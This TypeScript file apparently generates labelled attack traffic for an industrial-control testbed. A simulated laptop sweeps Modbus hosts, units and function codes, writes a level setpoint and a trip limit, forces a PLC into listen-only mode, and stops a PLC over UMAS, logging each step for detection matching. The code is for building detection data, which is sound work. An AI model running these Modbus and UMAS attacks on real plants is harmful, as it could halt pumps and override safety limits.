// The unknown laptop: comes after the normal time, looks around and then does harm, one labelled event after the other.
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ModbusRTU } from './modbus-client.ts';
import { logEvent } from './event-log.ts';
import { addressOf, normalSeconds, until } from './plant.ts';

const source = addressOf('laptop').ip;

interface Deed {
  label: string;
  device: string;
  unit: number | null;
  what: string;
}

function log(deed: Deed, firstMs: number, port: number, transactions?: number[]): void {
  logEvent({
    label: deed.label,
    class: 'attack',
    firstMs,
    lastMs: Date.now(),
    source,
    target: addressOf(deed.device).ip,
    unit: deed.unit,
    what: deed.what,
    match: transactions === undefined ? { by: 'modbus', port } : { by: 'modbus', port, transactions },
  });
}

/** A deed done with modbus-serial over a connection of its own. */
async function withClient(deed: Deed, act: (client: ModbusRTU) => Promise<unknown>): Promise<void> {
  const client = new ModbusRTU();
  client.on('error', () => undefined);
  client.setTimeout(1000);
  const firstMs = Date.now();
  await client.connectTCP(addressOf(deed.device).ip, { port: 502 });
  const port = (client as unknown as { _port: { _client: net.Socket } })._port._client.localPort ?? 0;
  client.setID(deed.unit ?? 1);
  await act(client).catch(() => undefined);
  log(deed, firstMs, port);
  await sleep(80);
  await new Promise<void>((done) => client.close(() => done()));
}

/** Sends Modbus messages byte for byte, one at a time: for what modbus-serial refuses to send. */
class RawClient {
  readonly #socket: net.Socket;
  /** Kept here: once the other side has reset the connection, the socket no longer tells it. */
  readonly port: number;
  #transaction = 1;

  private constructor(socket: net.Socket) {
    this.#socket = socket;
    this.port = socket.localPort ?? 0;
  }

  static async connect(device: string): Promise<RawClient> {
    const socket = net.connect({ host: addressOf(device).ip, port: 502 });
    socket.setNoDelay(true);
    await new Promise<void>((done, fail) => {
      socket.once('connect', done);
      socket.once('error', fail);
    });
    socket.on('error', () => undefined);
    return new RawClient(socket);
  }

  /** Sends one PDU and waits for an answer or the end of `waitMs`; returns the transaction used. */
  async send(unit: number, pdu: Buffer, waitMs: number): Promise<number> {
    const transaction = this.#transaction++;
    const header = Buffer.alloc(7);
    header.writeUInt16BE(transaction, 0);
    header.writeUInt16BE(pdu.length + 1, 4);
    header[6] = unit;
    const waiting = new AbortController();
    const stop = (): void => waiting.abort();
    this.#socket.once('data', stop);
    this.#socket.write(Buffer.concat([header, pdu]));
    await sleep(waitMs, undefined, { signal: waiting.signal }).catch(() => undefined);
    this.#socket.off('data', stop);
    return transaction;
  }

  close(): void {
    this.#socket.end();
  }
}

async function sweepHosts(): Promise<void> {
  const firstMs = Date.now();
  for (let last = 9; last <= 30; last++) {
    const socket = net.connect({ host: `192.168.60.${last}`, port: 502 });
    socket.on('connect', () => socket.resetAndDestroy());
    socket.on('error', () => undefined);
    setTimeout(() => socket.destroy(), 900);
    await sleep(40);
  }
  await sleep(1000);
  logEvent({
    label: 'host-sweep',
    class: 'attack',
    firstMs,
    lastMs: Date.now(),
    source,
    target: '192.168.60.9-30',
    unit: null,
    what: 'an unknown laptop tries TCP port 502 of 22 addresses in a row; three exist',
    match: { by: 'probe' },
  });
}

async function identify(device: string, unit: number): Promise<void> {
  const deed = { label: 'identification', device, unit, what: `43/14 device identification of unit ${unit}` };
  await withClient(deed, (client) => client.readDeviceIdentification(2, 0));
  await sleep(400);
}

async function sweepUnits(): Promise<void> {
  const what = 'one holding register is read from units 1 to 40 in a row; 1 to 3 exist, the gateway refuses the others';
  await withClient({ label: 'unit-sweep', device: 'gateway', unit: null, what }, async (client) => {
    for (let unit = 1; unit <= 40; unit++) {
      client.setID(unit);
      await client.readHoldingRegisters(0, 1).catch(() => undefined);
    }
  });
}

async function sweepFunctions(): Promise<void> {
  const what = 'functions 1 to 127 in a row, each with the data FF FF 00 01; most are refused, 15 and 16 not answered';
  const firstMs = Date.now();
  const client = await RawClient.connect('plc1');
  for (let code = 1; code <= 127; code++) {
    await client.send(1, Buffer.of(code, 0xff, 0xff, 0x00, 0x01), 300);
    await sleep(12);
  }
  log({ label: 'function-sweep', device: 'plc1', unit: 1, what }, firstMs, client.port);
  client.close();
}

async function diagnostic(device: string, subFunction: number, label: string, what: string): Promise<void> {
  const firstMs = Date.now();
  const client = await RawClient.connect(device);
  await client.send(1, Buffer.of(8, 0, subFunction, 0, 0), 500);
  log({ label, device, unit: 1, what }, firstMs, client.port);
  await sleep(60);
  client.close();
}

/** UMAS requests of one connection; unit 0, as engineering tools send them. */
async function umas(): Promise<void> {
  const client = await RawClient.connect('plc1');
  const step = async (label: string, what: string, ...requests: Buffer[]): Promise<void> => {
    const firstMs = Date.now();
    const transactions: number[] = [];
    for (const request of requests) {
      transactions.push(await client.send(0, Buffer.concat([Buffer.of(90), request]), 500));
      await sleep(150);
    }
    log({ label, device: 'plc1', unit: 0, what }, firstMs, client.port, transactions);
  };
  const name = Buffer.from('LAPTOP-7Q2K');
  await step('umas-identify', 'UMAS 0x02 read id and 0x01 begin of communication', Buffer.of(0, 2), Buffer.of(0, 1, 0));
  await step(
    'umas-reserve',
    'UMAS 0x10 reservation of the PLC by the laptop',
    Buffer.concat([Buffer.of(0, 0x10, 0x43, 0x4c, 0, 0, name.length), name]),
  );
  await sleep(700);
  await step('umas-stop', 'UMAS 0x41 stops the PLC: pumps off, the level falls', Buffer.of(1, 0x41, 0xff, 0));
  for (let count = 0; count < 4; count++) {
    await sleep(2500);
    await step('umas-keep-alive', 'UMAS 0x12 keeps the reservation', Buffer.of(1, 0x12));
  }
  await step('umas-start', 'UMAS 0x40 starts the PLC again', Buffer.of(1, 0x40, 0xff, 0));
  await sleep(800);
  await step('umas-release', 'UMAS 0x11 gives the reservation back', Buffer.of(1, 0x11));
  client.close();
}

const setpointWrite = {
  label: 'write-by-new-host',
  device: 'plc1',
  unit: 1,
  what: 'the laptop writes 820 to holding register 0 (level setpoint), which only the HMI wrote before',
};
const limitWrite = {
  label: 'write-to-read-only-register-by-laptop',
  device: 'plc1',
  unit: 1,
  what: 'the laptop writes 1200 to holding register 8 (high level trip), which was only ever read before',
};
const day: [number, () => Promise<void>][] = [
  [0, sweepHosts],
  [
    5,
    async () => {
      await identify('plc1', 1);
      await identify('plc2', 1);
      for (const unit of [1, 2, 3]) await identify('gateway', unit);
    },
  ],
  [12, sweepUnits],
  [29, sweepFunctions],
  [43, () => withClient(setpointWrite, (client) => client.writeRegister(0, 820))],
  [49, () => withClient(limitWrite, (client) => client.writeRegister(8, 1200))],
  // At 56 the HMI itself writes a register only ever read before (hmi.ts).
  [63, () => diagnostic('plc1', 1, 'restart-communications', '8/1 restarts the communications of PLC 1')],
  [72, () => diagnostic('plc2', 4, 'force-listen-only', '8/4 forces PLC 2 to listen only: it answers nobody')],
  [
    79,
    () =>
      diagnostic('plc2', 1, 'restart-communications', '8/1 restarts the communications of PLC 2, which answers again'),
  ],
  [86, umas],
];
for (const [at, act] of day) {
  await until(normalSeconds + at);
  await act();
}
